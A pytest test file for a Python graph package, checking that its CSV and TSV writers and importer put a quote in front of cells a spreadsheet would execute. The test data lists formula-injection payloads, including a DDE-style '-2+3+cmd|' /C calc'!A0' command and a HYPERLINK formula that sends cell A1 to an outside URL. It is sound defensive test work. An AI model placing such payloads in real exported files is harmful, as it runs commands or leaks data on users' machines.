"""Tables for spreadsheets: texts that a spreadsheet would run get a quote in front, values never do."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cica_graph import Graph
from cica_graph.files.table_writer import TableWriter, guard, to_csv, unguard
from cica_graph.formats.tables import render
from cica_graph.imports.table import convert
from cica_graph.imports.table_names import Resolver, decisions

RUN = [
    "=1+1", '=HYPERLINK("https://e.example/?x="&A1)', "+1-1", "-2+3 cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1-1", "－2+3", "＠SUM(A1)", " =1+1", "  @x", '"=1+1', '" =1+1', "+7 727 258",
    "-", "-x", "-08:00 =1", "-PT8H+1", "--5", "+-5", "-1.5e", "-٣",
]  # fmt: skip
VALUES = [
    "-5", "+5", "-0", "-1.5", "-.5", "-5.", "-1.5e3", "+1E-7", "-PT8H", "-P1Y2M3DT4H5M6.7S", "-08:00", "+05:30", "-0044-03-15",
    "-0044-03", "-12000-01-01T00:00:00Z", "-0044-03-15T12:30:00-08:00", "+1992-00-00T00:00:00Z/9", "+1992-10-05T00:00:00Z/11 -0001-00-00T00:00:00Z/9",
]  # fmt: skip
PLAIN = ["", "Kazakhstan", "'=1+1", "a=1", "1+1", "2012-06-13", "1-2", "https://e.example/=x", "#x", "P1Y", "’=1"]


@pytest.mark.parametrize("text", RUN)
def test_a_text_that_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    assert guard(text) == "'" + text
    assert guard(guard(text)) == guard(text)
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("text", VALUES + PLAIN)
def test_a_value_or_a_plain_text_stays_unchanged(text: str) -> None:
    assert guard(text) == text


@given(st.text(st.sampled_from("'\"=+-@ \t\r\n＝1a:PTZ"), max_size=6))
def test_a_guarded_text_never_begins_like_a_formula(text: str) -> None:
    safe = guard(text)
    start = safe.lstrip(' "')
    assert not start.startswith(("=", "@", "\t", "\r", "\n", "＝"))
    if start.startswith(("+", "-")):
        assert safe == text
        assert set(safe) <= set("+-1 :PTZ")
    if not text.startswith("'"):
        assert unguard(safe) == text


def test_every_kind_of_cell() -> None:
    out = io.StringIO()
    table = TableWriter(out, ["a", "=b"])
    table.write(["=1+1", -5])
    table.write([-1.5e3, date(2012, 6, 13)])
    table.write([True, None])
    table.write(["one\ttwo\rthree", 'say "x", y'])
    assert out.getvalue() == (
        "a,'=b\n'=1+1,-5\n-1500.0,2012-06-13\ntrue,\n" + '"one\ttwo\rthree","say ""x"", y"\n'
    )  # fmt: skip


def test_every_row_of_tsv_is_one_line() -> None:
    out = io.StringIO()
    TableWriter(out, ["a", "b"], delimiter="\t").write(['one\ttwo\r\nthree "x"', "\t=1"])
    assert out.getvalue() == 'a\tb\n"one two three ""x"""\t\' =1\n'


def test_an_empty_row_of_one_column_is_still_a_record() -> None:
    assert to_csv(["a"], [{}]) == b'a\r\n""\r\n'


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=9), min_size=1, max_size=4))
def test_every_writer_output_reads_back_as_guarded_texts(texts: list[str]) -> None:
    record = {f"c{n}": text for n, text in enumerate(texts)}
    expected = [list(record), [guard(text) for text in texts]]
    for written in (render([{**record}], list(record), "csv"), to_csv(list(record), [record]).decode()):
        assert list(csv.reader(io.StringIO(written, newline=""), strict=True)) == expected


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file, delimiter="\t" if path.suffix == ".tsv" else ",") for cell in row]


@pytest.mark.parametrize("evil", ["-2+3 cmd", "=1+1", "@x", "＝1+1", ' "=1+1'])
def test_an_import_leaves_no_runnable_cell(tmp_path: Path, graph: Graph, evil: str) -> None:
    resolver = Resolver(graph.store)
    path, quoted = tmp_path / "rows.csv", evil.replace('"', '""')
    path.write_text(
        f'member,organization,start,source\n"{quoted}",CICA,2001,"{quoted}"\nKAZ,"{quoted}",2001,\nKAZ,CICA,"{quoted}",\n',
        "utf-8",
    )
    outcome = convert(path, resolver, tmp_path / "out", columns={})
    assert outcome.rejected.total() == 3
    written = [cell for file in outcome.written[1:] for cell in cells(file)]
    assert not [cell for cell in written if cell.lstrip(' "').startswith(tuple("=+-@＝"))]
    assert sum(cell == "'" + evil for cell in written) >= 4

    # Guarded texts are read back unchanged: decisions about the name, and the rejected rows.
    unresolved = outcome.written[2]
    with unresolved.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file, delimiter="\t"))
    with unresolved.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]), delimiter="\t")
        writer.writeheader()
        writer.writerows({**row, "use": "CICA" if row["part"] == "organization" else "KAZ"} for row in rows)
    resolver.decide(decisions(unresolved, resolver))
    again = convert(outcome.written[1], resolver, tmp_path / "again", columns={})
    assert (again.kept, again.rejected.total()) == (2, 1)
    titles = re.findall(r'title "((?:[^"\\]|\\.)*)"@en', again.written[0].read_text("utf-8"))
    assert evil.strip() in [title.replace('\\"', '"') for title in titles]
